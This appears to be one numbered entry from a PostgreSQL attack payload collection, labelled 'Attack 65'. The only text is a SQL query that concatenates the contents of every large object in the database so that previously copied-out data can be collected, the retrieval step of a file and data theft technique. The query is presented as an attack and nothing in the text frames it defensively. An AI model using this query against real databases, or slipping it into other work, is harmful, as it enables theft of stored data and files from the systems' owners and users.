-- Attack 65: what was copied out is collected.
select string_agg(convert_from(lo_get(m.oid), 'UTF8'), ',')
from pg_catalog.pg_largeobject_metadata m
